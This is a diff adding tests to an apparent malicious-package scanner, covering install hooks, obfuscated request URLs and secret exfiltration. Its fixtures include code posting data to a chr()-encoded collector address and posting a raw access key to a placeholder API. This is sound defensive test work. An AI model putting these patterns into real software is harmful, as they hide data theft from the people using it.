@@ -245,3 +245,38 @@ def test_importing_code_from_a_shipped_zip_at_install_is_running_it(tmp_path):
     assert "exec-dynamic" in rules_of(at_install) and at_install.verdict == "malicious"
     assert _weight(at_install, "exec-dynamic") > _weight(in_package, "exec-dynamic") > 0
     assert in_package.verdict == "clean"
+
+
+def test_a_desktop_cache_refresh_at_install_is_not_running_a_program(tmp_path):
+    setup = ("import subprocess\nfrom setuptools import setup\nfrom distutils.command.install_data import install_data\n"
+             "class Data(install_data):\n    def run(self):\n        subprocess.call([{!r}])\n"
+             "setup(name='demo', cmdclass={{'install_data': Data}})\n")
+    desktop = _scan(tmp_path, "a", {"setup.py": setup.format("update-desktop-database")})
+    other = _scan(tmp_path, "b", {"setup.py": setup.format("placeholder-program")})
+    assert "proc-exec" not in rules_of(desktop) and desktop.verdict == "clean"
+    assert "proc-exec" in rules_of(other)
+
+
+def test_a_request_to_an_address_only_decoding_shows_is_hidden(tmp_path):
+    # Folded through a module-level variable the address shows words no piece of the call
+    # holds; that is configuration, not hiding. chr() codes and base64 are hiding.
+    codes = ", ".join(str(ord(c)) for c in "https://collector.placeholder.invalid/x")
+    hidden = _scan(tmp_path, "a", {"demo/sub/client.py": "import requests\ndef go(data):\n"
+                                   f"    requests.post(''.join(map(chr, [{codes}])), data=data)\n"})
+    configured = _scan(tmp_path, "b", {"demo/sub/client.py": "import requests\nSERVER = 'registry.placeholder.invalid'\n"
+                                       "def go(data):\n    requests.post(f'https://{SERVER}/oauth2/token', data=data)\n"})
+    assert "exfil-hidden-url" in rules_of(hidden) and hidden.verdict != "clean"
+    assert "exfil-hidden-url" not in rules_of(configured) and configured.verdict == "clean"
+
+
+def test_a_secret_sent_as_it_is_is_exfiltration_a_signature_made_with_it_is_not(tmp_path):
+    head = "import requests\nURL = 'https://api.placeholder.invalid/x'\n"
+    sent = _scan(tmp_path, "a", {"demo/sub/wallet.py": head + "class W:\n    def go(self):\n"
+                                 "        requests.post(URL, json={'k': str(self.access_key_secret)})\n"})
+    signed = _scan(tmp_path, "b", {"demo/sub/wallet.py": head + "class W:\n    def go(self):\n"
+                                   "        requests.post(URL, json={'sig': self.sign(self.private_key)})\n"})
+    public = _scan(tmp_path, "c", {"demo/sub/wallet.py": head + "def go(public_key, client_secret):\n"
+                                   "    requests.post(URL, data={'pk': public_key, 'cs': client_secret})\n"})
+    assert "exfil-secret" in rules_of(sent) and sent.verdict != "clean"
+    assert "exfil-secret" not in rules_of(signed) and signed.verdict == "clean"
+    assert "exfil-secret" not in rules_of(public) and public.verdict == "clean"
